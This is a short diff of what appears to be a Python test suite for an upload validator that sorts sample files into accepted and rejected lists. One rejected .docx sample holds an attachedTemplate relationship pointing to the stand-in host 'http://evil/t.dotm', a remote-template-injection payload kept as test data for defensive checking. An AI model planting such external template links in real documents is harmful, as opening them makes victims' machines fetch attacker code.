@@ -31,6 +31,7 @@ GOOD = {
     ".txt": (TEXT, "水表".encode("gb18030"), "水表".encode("utf-16")),
 }
 WORD = "wordprocessingml.document"
+TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
 BAD = [
     (".pdf", b"%PDF-1.7\n", "不完整"),
     (".pdf", b"<html>%PDF-1.7 %%EOF", "不符"),
@@ -62,9 +63,7 @@ BAD = [
         ".docx",
         package(
             WORD,
-            **{
-                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
-            },
+            **{"word/_rels/settings.xml.rels": TEMPLATE},
         ),
         "外部",
     ),
